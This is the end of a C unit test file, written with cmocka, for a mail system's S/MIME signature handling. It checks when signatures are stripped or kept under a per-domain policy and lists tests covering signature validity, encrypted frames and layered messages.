        world_set(&w, SETTING_DOMAIN, "ours.example", "smime.remove_signature", "valid");
        struct slice content = received(plain, forms[i], "From: bob@partner.example\r\n");
        starts_with(content, BY_BOB);
        assert_true(slice_holds(content, "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nwords\r\n"));
        assert_false(slice_holds(content, "pkcs7"));
        content = received(plain, forms[i], "From: mallory@partner.example\r\n");
        assert_true(slice_holds(content, "pkcs7")); /* not valid: it stays */
        world_set(&w, SETTING_DOMAIN, "ours.example", "smime.remove_signature", "always");
        content = received(plain, forms[i], "From: mallory@partner.example\r\n");
        starts_with(content, "X-Sealpost-Signature: mismatch;");
        assert_false(slice_holds(content, "pkcs7"));
    }
    world_set(&w, SETTING_DOMAIN, "ours.example", "smime.remove_signature", "never");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_signature_is_valid_for_nobody_else),
        cmocka_unit_test(with_nul),
        cmocka_unit_test(a_certificate_speaks_for_its_addresses),
        cmocka_unit_test(nothing_is_opened_in_a_frame),
        cmocka_unit_test(nor_in_a_frame_that_is_encrypted),
        cmocka_unit_test(a_signed_part_signs_no_frame),
        cmocka_unit_test(another_form_is_another_message),
        cmocka_unit_test(layers_in_every_order),
        cmocka_unit_test(thousands_of_layers),
        cmocka_unit_test(changed_blocks_are_marked),
        cmocka_unit_test(failures_look_alike),
        cmocka_unit_test(a_captured_message_is_nobodys_word),
        cmocka_unit_test(opening_for_many_is_bounded),
        cmocka_unit_test(bad_signatures_are_put_aside_or_refused),
        cmocka_unit_test(signatures_are_removed_where_wanted),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
